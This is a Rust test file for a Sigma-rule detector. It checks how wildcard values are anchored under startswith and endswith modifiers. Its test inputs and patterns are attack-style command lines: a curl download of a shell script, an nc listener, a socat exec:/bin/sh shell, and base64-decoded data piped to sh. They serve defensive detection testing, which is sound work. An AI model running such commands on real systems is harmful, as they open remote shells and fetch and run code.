//! Wildcard values mean what Sigma says they mean, under every string modifier:
//! rsigma 0.23 swaps the anchors of a wildcard value under `|startswith` and
//! `|endswith`, which `ward_detect::wildcard` corrects before compiling.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use serde_json::json;
use ward_detect::Detector;
use ward_detect::rulestest::event_from_partial;
use ward_protocol::RuleFile;

fn detector(field: &str, values: &[&str]) -> Detector {
    let list: String = values.iter().map(|v| format!("\n      - '{v}'")).collect();
    let yaml = format!(
        "title: W\nid: 00000000-0000-4000-8000-00000000000a\nauthor: x\n\
         logsource: {{product: linux, category: process_creation}}\n\
         detection:\n  sel:\n    {field}:{list}\n  condition: sel\nlevel: low\n"
    );
    let (det, errors) = Detector::load(&[RuleFile {
        name: "w.yml".into(),
        yaml,
    }]);
    assert!(errors.is_empty(), "{errors:#?}");
    det
}

fn fires(det: &Detector, cmdline: &str) -> bool {
    let serde_json::Value::Object(m) =
        json!({"kind": "process", "pid": 7, "ppid": 1, "exe": "/usr/bin/x", "cmdline": cmdline})
    else {
        unreachable!()
    };
    !det.evaluate(&event_from_partial(1_700_000_000_000, m).unwrap())
        .is_empty()
}

#[test]
fn startswith_and_endswith_anchor_wildcard_values_at_the_right_end() {
    let starts = detector("CommandLine|startswith", &["curl *http"]);
    assert!(fires(&starts, "curl -s http://203.0.113.9/x.sh"));
    assert!(
        !fires(&starts, "xcurl -s http"),
        "a starts-with value must anchor its start"
    );
    let ends = detector("CommandLine|endswith", &["-o *.sh"]);
    assert!(fires(&ends, "curl http://x -o /tmp/a.sh"));
    assert!(
        !fires(&ends, "wget -o /tmp/a.sh.txt"),
        "an ends-with value must anchor its end"
    );
}

#[test]
fn mixed_values_under_startswith_keep_each_values_meaning() {
    let det = detector("CommandLine|startswith", &["nc ", "socat *exec:"]);
    assert!(fires(&det, "nc -l 4444"));
    assert!(fires(&det, "socat tcp:x exec:/bin/sh"));
    assert!(!fires(&det, "echo nc "));
    assert!(!fires(&det, "echo socat tcp:x exec:/bin/sh"));
}

#[test]
fn simple_wildcard_shapes_match_as_before_without_a_regex() {
    let det = detector("CommandLine", &["*base64 -d*", "/tmp/*", "*/.x"]);
    assert!(
        fires(&det, "echo x | BASE64 -d | sh"),
        "Sigma's default is case-insensitive"
    );
    assert!(fires(&det, "/tmp/a b"));
    assert!(fires(&det, "run /home/u/.x"));
    assert!(!fires(&det, "x/tmp/a"));
    assert!(!fires(&det, "/home/u/.x y"));
    // Three shapes in one item: rsigma has them right and one item holds one modifier.
    assert_eq!(det.stats().wildcards.plain, 0);
    let contains = detector("CommandLine", &["*base64 -d*", "*| sh*"]);
    assert!(fires(&contains, "echo x | BASE64 -D") && !fires(&contains, "base64 -e"));
    assert_eq!(contains.stats().wildcards.plain, 2);
    let inner = detector("CommandLine", &["a*b"]);
    assert!(fires(&inner, "a b") && !fires(&inner, "xa b") && !fires(&inner, "a bx"));
    assert_eq!(inner.stats().wildcards.plain, 0);
}
